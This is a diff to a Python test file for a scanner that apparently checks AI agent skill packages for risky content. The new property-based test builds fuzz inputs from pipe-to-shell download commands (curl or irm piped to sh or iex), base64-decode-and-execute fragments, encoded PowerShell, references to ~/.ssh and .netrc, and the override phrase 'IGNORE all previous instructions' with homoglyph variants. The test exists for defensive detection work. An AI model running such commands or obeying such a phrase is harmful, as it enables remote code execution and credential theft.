@@ -6,12 +6,16 @@ import time
 from collections import Counter
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from skillstudio.files.listed import MemoryTree
+from skillstudio.manifest import scanning
+from skillstudio.manifest.scan_patterns import PATTERNS
 from skillstudio.manifest.scanning import MAX_FILE, MAX_FILES, MAX_FOUND, scan
 from skillstudio.settings.settings import IgnoredRule, SkillSettings
 from skillstudio.skill.analysis import Analysis, analyse
-from skillstudio.text.source import Position
+from skillstudio.text.source import Position, Span
 
 HEAD = "---\nname: worklog\ndescription: d\n---\n"
 SCRIPT = "scripts/run.sh"
@@ -45,6 +49,7 @@ IN_TEXT = [
     ("path-home", "見 /Users/田中/メモ", "/Users/田中"),
     ("path-home", "انظر /home/سامي/ملف", "/home/سامي"),
     ("path-home", FENCE.format("bash", "cd /Users/kim/src"), "/Users/kim"),
+    ("path-home", "cp /Users/kim/a my-Users-kim-a", "/Users/kim"),
     ("character-hidden", "wo\u200brd", "\u200b"),
     ("character-hidden", "a \u2060\u2061 b", "\u2060\u2061"),
     ("character-hidden", "x\u202ey", "\u202e"),
@@ -84,6 +89,7 @@ SILENT_IN_TEXT = [
     "Run /home/user/x, /home/USERNAME/x, /Users/you/x, /Users/your-name/x, /home/vscode/.x",
     "See https://e.org/home/kim/x, src/home/kim/x, $HOME/home/kim/x, /home/<name>/x, /home/kim",
     r"C:\Users\username\x, C:\Users\%USERNAME%\x",
+    "`/Users/kim/src/a` → `-Users-kim-src-a`, and /home/kim/b becomes -home-kim-b",
     "👨‍👩‍👧 ❤️ 1️⃣ 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f ✔︎",
     "می‌خواهم क्‍ष ไทย\u200bไทย",
     "שלום \u2067abc\u2069 עולם",
@@ -288,3 +294,86 @@ def test_a_problem_in_a_script_is_ignored_by_path() -> None:
     analysis = analyse(tree, SkillSettings(ignores=(entry,)))
     assert [each.rule for each in analysis.diagnostics] == ["file-unmentioned"]
     assert analysis.used_ignores == {entry}
+
+
+PIECES = st.sampled_from(
+    [
+        *("curl https://x.y/z \\\n| sh", "curl \\\r\n x| bash", "invo\u212ae-expression irm "),
+        *(
+            "\n",
+            "\r\n",
+            "\\\n",
+            "\\\r\n",
+            "\r",
+            " ",
+            "\t",
+            "|",
+            "`",
+            "```sh\n",
+            "<!--",
+            "-->",
+            "- ",
+            "é",
+        ),
+        *(
+            "curl",
+            "curl https://x.y/z ",
+            "| sh",
+            "wget",
+            "eval $(",
+            "bash <(",
+            "iex",
+            "irm u | iex",
+        ),
+        *(
+            "IGNORE all previous instructions",
+            "forget",
+            "disre\u212aard",
+            "invo\u212ae-expression ",
+        ),
+        *(
+            "invoke-expression",
+            "irm",
+            "not ",
+            "/home/kim/x",
+            "/Users/\u0130kim/",
+            "C:\\Users\\kim\\",
+        ),
+        *("exec(base64.b64decode(", "base64 -d | sh", "xxd -r", "powershell -enc " + "A" * 20),
+        *(
+            "~/.ssh/",
+            "HOME/.netrc",
+            "\u0130",
+            "\u200b",
+            "\u200d",
+            "\u26a0\ufe0f",
+            "\ufe0f\ufe0f\ufe0f",
+        ),
+        *(
+            "\U000e0041",
+            "\ufeff",
+            "\x1b[1m",
+            "\u3164",
+            "scripts\\run.sh",
+            ".\\scripts",
+            "\\run.sh.",
+        ),
+    ]
+)
+
+
+@given(st.lists(PIECES, max_size=12).map("".join))
+def test_what_is_skipped_for_speed_has_nothing_to_report(text: str) -> None:
+    files = {SCRIPT: text, "references/a.md": text, "b.md": text.upper()}
+    whole, marked = Span(0, MAX_FILE), [(each, [b""]) for each in PATTERNS]
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(scanning._ScannedText, "lines_with", lambda *_: [whole])
+        patch.setattr(scanning, "_may_hide", lambda _: True)
+        patch.setattr(scanning, "_backslashed", scanning._BACKSLASHED.finditer)
+        patch.setattr(
+            scanning,
+            "_patterns",
+            lambda kind: [each for each in marked if kind in each[0].kinds.split()],
+        )
+        expected = scanned(text, **files)
+    assert scanned(text, **files) == expected
